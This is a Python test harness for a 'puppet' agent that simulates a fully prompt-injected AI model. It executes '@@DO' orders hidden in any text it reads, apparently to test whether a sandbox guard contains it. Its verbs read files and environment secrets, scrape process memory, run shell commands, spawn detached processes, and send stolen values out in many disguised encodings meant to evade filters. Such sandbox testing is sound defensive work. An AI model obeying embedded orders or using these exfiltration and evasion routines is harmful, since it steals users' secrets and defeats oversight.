"""The agent that obeys: does every order found in any text it comes across, then its own job.

Stands in for a model that has been talked into everything, so that a replay never depends on a
model's good manners. An order is ``@@DO {"do": verb, ...}@@``; it may hide in the prompt, a
file, a reply, the result of another order, or inside JSON strings.

Invariants:
1. Standard library only, Python 3.9 or later: it runs where only an interpreter is to be had.
2. The same file and the same orders run with and without the guard; it cannot tell which.
3. A failing order is reported and the next one is tried. Sizes, depth and time are bounded.

Values: ``{name}`` in an order is what an earlier order stored with ``"as": "name"``;
``{env:NAME}`` a variable; ``{pid}``, ``{ppid}`` process ids. Every result goes to the file named
by ``PUPPET_LOG``, one summary line per order to standard output.
"""

from __future__ import annotations

import base64
import glob
import gzip
import html
import http.client
import json
import os
import re
import socket
import ssl
import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from collections.abc import Callable

ORDER = re.compile(r"@@DO\s*(\{(?:(?!@@DO).)*?\})\s*@@", re.DOTALL)
VALUE = re.compile(r"\{(env:)?([A-Za-z_][A-Za-z0-9_]*)\}")
MAX_TEXT = 256 * 1024
MAX_DEPTH = 5
MAX_MEMORY = 64 * 1024 * 1024
PATIENCE = 5.0

Args = dict[str, Any]


class Puppet:
    """One agent process: what it has seen, stored and done."""

    def __init__(self) -> None:
        self.store: dict[str, str] = {"pid": str(os.getpid()), "ppid": str(os.getppid())}
        self.done: set[str] = set()
        self.log = Path(os.environ.get("PUPPET_LOG", "/tmp/puppet.log"))  # noqa: S108 - inside a box /tmp is the box's own
        pairs = (p.split("=") for p in os.environ.get("PUPPET_HOSTS", "").split(",") if "=" in p)
        self.hosts = {pair[0]: pair[1] for pair in pairs}

    def obey(self, text: str, depth: int = 0) -> None:
        """Do every order in the text that was not done before, and those its results hold."""
        for order in _orders(text):
            key = json.dumps(order, sort_keys=True)
            if key not in self.done and depth < MAX_DEPTH:
                self.done.add(key)
                self.obey(self._perform(order), depth + 1)

    def _perform(self, order: Args) -> str:
        verb = str(order.get("do"))
        try:
            result = VERBS[verb](self, self._filled(order))[:MAX_TEXT]
            outcome = "ok"
        except Exception as error:  # noqa: BLE001 - whatever fails, the next order is tried
            result = f"failed: {type(error).__name__}: {error}"
            outcome = result
        if "as" in order:
            self.store[str(order["as"])] = result
        target = order.get("url") or order.get("path") or order.get("host") or ""
        print(f"puppet: {verb} {target}: {outcome} ({len(result)} characters)", flush=True)
        with suppress(OSError), self.log.open("a", encoding="utf-8", errors="replace") as log:
            log.write(json.dumps({"order": order, "result": result}) + "\n")
        return result

    def _filled(self, value: Any) -> Any:
        """Give the order with stored values put in, wherever a string holds their name."""
        if isinstance(value, dict):
            return {key: self._filled(part) for key, part in value.items()}
        if isinstance(value, list):
            return [self._filled(part) for part in value]
        if isinstance(value, str):
            return VALUE.sub(self._variable_value, value)
        return value

    def _variable_value(self, match: re.Match[str]) -> str:
        if match[1]:
            return os.environ.get(match[2], "")
        return self.store.get(match[2], match[0])

    def address(self, host: str) -> str:
        """Give the address to dial directly; what no one told us is left to the system."""
        return self.hosts.get(host, host)


def _orders(text: str) -> list[Args]:
    """Give the orders in a text, in order; JSON is searched string by string as well."""
    found = []
    for piece in [text, *_leaves(text)]:
        for body in ORDER.findall(piece):
            with suppress(ValueError):
                order = json.loads(body)
                if isinstance(order, dict):
                    found.append(order)
    return found


def _leaves(text: str) -> list[str]:
    try:
        waiting = [json.loads(text)]
    except ValueError:
        return []
    leaves = []
    while waiting:
        value = waiting.pop(0)
        if isinstance(value, dict):
            waiting = [*value.values(), *waiting]
        elif isinstance(value, list):
            waiting = [*value, *waiting]
        elif isinstance(value, str):
            leaves.append(value)
    return leaves


def _kept(text: str, order: Args) -> str:
    """Give the parts an order's ``grep`` asks for, or all of it."""
    if "grep" not in order:
        return text
    return "\n".join(re.findall(order["grep"], text))


def _read(_: Puppet, order: Args) -> str:
    with Path(order["path"]).expanduser().open("rb") as source:
        return _kept(source.read(MAX_TEXT).decode("utf-8", "replace"), order)


def _write(_: Puppet, order: Args) -> str:
    path = Path(order["path"]).expanduser()
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a" if order.get("append") else "w", encoding="utf-8") as target:
        target.write(order["text"])
    if "mode" in order:
        path.chmod(int(order["mode"], 8))
    return f"wrote {path}"


def _edit(_: Puppet, order: Args) -> str:
    path = Path(order["path"])
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(order["old"], order["new"]), encoding="utf-8")
    return f"edited {path}"


def _glob(_: Puppet, order: Args) -> str:
    """Give the names that match and, with ``grep``, what is found in those that can be read."""
    lines = sorted(glob.glob(os.path.expanduser(order["path"])))  # noqa: PTH111, PTH207 - absolute patterns
    if "grep" in order:
        texts = []
        for line in lines:
            with suppress(OSError), Path(line).open("rb") as source:
                texts.append(_kept(source.read(MAX_TEXT).decode("utf-8", "replace"), order))
        lines = [text for text in texts if text]
    return "\n".join(lines)


def _memory(_: Puppet, order: Args) -> str:
    """Search the memory of another process, the way a debugger would."""
    wanted, seen, found = re.compile(order["grep"].encode()), 0, set()
    process = Path("/proc") / order["process"]
    with (process / "mem").open("rb", buffering=0) as memory:
        for line in (process / "maps").read_text(encoding="utf-8").splitlines():
            span, rights = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if not rights.startswith("rw") or seen > MAX_MEMORY:
                continue
            with suppress(OSError, ValueError, OverflowError):
                memory.seek(start)
                data = memory.read(min(end - start, MAX_MEMORY))
                seen += len(data)
                found.update(wanted.findall(data))
    return "\n".join(sorted(part.decode("latin-1") for part in found))


def _exec(_: Puppet, order: Args) -> str:
    argv = ["/bin/sh", "-c", order["text"]] if order["do"] == "shell" else order["argv"]
    done = subprocess.run(  # noqa: S603 - running what it is told is what it is for
        argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=4 * PATIENCE, check=False
    )
    return _kept((done.stdout + done.stderr).decode("utf-8", "replace"), order)


def _spawn(_: Puppet, order: Args) -> str:
    child = subprocess.Popen(  # noqa: S603 - running what it is told is what it is for
        order["argv"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=bool(order.get("detached")),
    )
    return str(child.pid)


def _env(_: Puppet, order: Args) -> str:
    return _kept("\n".join(f"{key}={value}" for key, value in os.environ.items()), order)


def _http(puppet: Puppet, order: Args) -> str:
    url = urlsplit(order["url"])
    body = order.get("body", "")
    data = (body if isinstance(body, str) else json.dumps(body)).encode("utf-8", "replace")
    headers = {str(k): str(v) for k, v in order.get("headers", {}).items()}
    if order.get("gzip"):
        data, headers["content-encoding"] = gzip.compress(data), "gzip"
    path = (url.path or "/") + (f"?{url.query}" if url.query else "")
    connection, absolute = _connection(puppet, order, url.hostname or "", url.port)
    target = order["url"] if absolute else path
    method = order.get("method", "POST" if data else "GET")
    try:
        if order.get("chunked"):
            headers["transfer-encoding"] = "chunked"
            pieces = iter([data[:9], data[9:]])
            connection.request(method, target, pieces, headers, encode_chunked=True)
        else:
            connection.request(method, target, data or None, headers)
        reply = connection.getresponse()
        text = reply.read(MAX_TEXT).decode("utf-8", "replace")
    finally:
        connection.close()
    if reply.status >= 400:
        raise OSError(f"HTTP {reply.status}: {text[:200]}")
    return text


def _connection(
    puppet: Puppet, order: Args, host: str, port: int | None
) -> tuple[http.client.HTTPConnection, bool]:
    """Give a connection, and whether the target has to be absolute: plain HTTP through a proxy."""
    secure = order["url"].startswith("https:")
    port = port or (443 if secure else 80)
    name = "https_proxy" if secure else "http_proxy"
    proxy = os.environ.get(name) or os.environ.get(name.upper())
    context = ssl.create_default_context()
    if proxy and not order.get("direct"):
        via = urlsplit(proxy)
        if not secure:
            return http.client.HTTPConnection(via.hostname or "", via.port, timeout=PATIENCE), True
        tunnel = http.client.HTTPSConnection(
            via.hostname or "", via.port, timeout=PATIENCE, context=context
        )
        tunnel.set_tunnel(host, port)
        return tunnel, False
    connection = http.client.HTTPConnection(host, port, timeout=PATIENCE)
    plain = socket.create_connection((puppet.address(host), port), timeout=PATIENCE)
    connection.sock = context.wrap_socket(plain, server_hostname=host) if secure else plain
    return connection, False


def _rawtcp(puppet: Puppet, order: Args) -> str:
    place = (puppet.address(order["host"]), int(order["port"]))
    with socket.create_connection(place, timeout=PATIENCE) as link:
        link.sendall(order["bytes"].encode("utf-8", "replace"))
        link.shutdown(socket.SHUT_WR)
        return link.recv(4096).decode("utf-8", "replace")


def _unix(_: Puppet, order: Args) -> str:
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(PATIENCE)
        link.connect(order["path"])
        link.sendall(order["bytes"].encode())
        return link.recv(4096).decode("utf-8", "replace")


def _dns(puppet: Puppet, order: Args) -> str:
    server, _, port = os.environ["PUPPET_DNS"].partition(":")
    labels = [label.encode()[:63] for label in order["name"].split(".") if label]
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(1.0)
        link.connect((puppet.address(server), int(port)))
        link.send(b"\x13\x37\x01\x00\x00\x01" + b"\0" * 6 + name + b"\x00\x01\x00\x01")
        return repr(link.recv(4096))


def _say(_: Puppet, order: Args) -> str:
    print(order["text"], flush=True)
    output = os.environ.get("RINGFENCE_OUTPUT")
    if output:
        with Path(output).open("a", encoding="utf-8") as target:
            target.write(order["text"] + "\n")
    return ""


def _emit(_: Puppet, order: Args) -> str:
    outbox = Path(os.environ.get("RINGFENCE_OUTBOX", "/run/ringfence/outbox"))
    name = order["event"].replace(":", "-")
    (outbox / f"{name}.json").write_text(json.dumps({"event": order["event"]}), encoding="utf-8")
    return f"proposed {order['event']}"


def _sleep(_: Puppet, order: Args) -> str:
    time.sleep(min(float(order["s"]), 30.0))
    return ""


def _leak(puppet: Puppet, order: Args) -> str:
    """Send a stored value to ``url`` once per encoding named; give how many got through."""
    value, sent = puppet.store.get(order["name"], ""), []
    for encoding in order["encodings"]:
        for number, part in enumerate(disguise(value, encoding)):
            url = f"{order['url']}/{encoding}/{number}"
            with suppress(OSError, http.client.HTTPException):
                _http(puppet, {"url": url, "body": part, "do": "http"})
                sent.append(encoding)
    if not sent:
        raise OSError("nothing got through")
    return ",".join(sorted(set(sent)))


def disguise(value: str, encoding: str) -> list[str]:
    """Give a value in one encoding, as the messages it takes. Raises KeyError when unknown."""
    raw = value.encode()
    size = max(1, -(-len(value) // 5))
    forms: dict[str, list[str]] = {
        "raw": [value],
        "reversed": [value[::-1]],
        "hex": [raw.hex()],
        "base64": [base64.b64encode(raw).decode()],
        "base64url": [base64.urlsafe_b64encode(b"x" + raw).decode()],
        "base32": [base64.b32encode(raw).decode()],
        "percent": ["".join(f"%{b:02X}" for b in raw)],
        "html": ["".join(f"&#{b};" for b in raw)],
        "json": ["".join(f"\\u{b:04x}" for b in raw)],
        "gzip": [base64.b64encode(gzip.compress(html.escape(value).encode())).decode()],
        "pieces": [value[i : i + size] for i in range(0, len(value), size)],
        "characters": list(value),
    }
    return forms[encoding]


VERBS: dict[str, Callable[[Puppet, Args], str]] = {
    "read": _read,
    "write": _write,
    "edit": _edit,
    "glob": _glob,
    "memory": _memory,
    "exec": _exec,
    "shell": _exec,
    "spawn": _spawn,
    "env": _env,
    "http": _http,
    "rawtcp": _rawtcp,
    "unix": _unix,
    "dns": _dns,
    "say": _say,
    "emit": _emit,
    "sleep": _sleep,
    "leak": _leak,
}


def main(arguments: list[str]) -> int:
    """Obey the prompt on standard input, then every file named on the command line."""
    puppet = Puppet()
    puppet.obey(sys.stdin.read(MAX_TEXT))
    for name in arguments:
        puppet.obey(Path(name).read_text(encoding="utf-8"))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
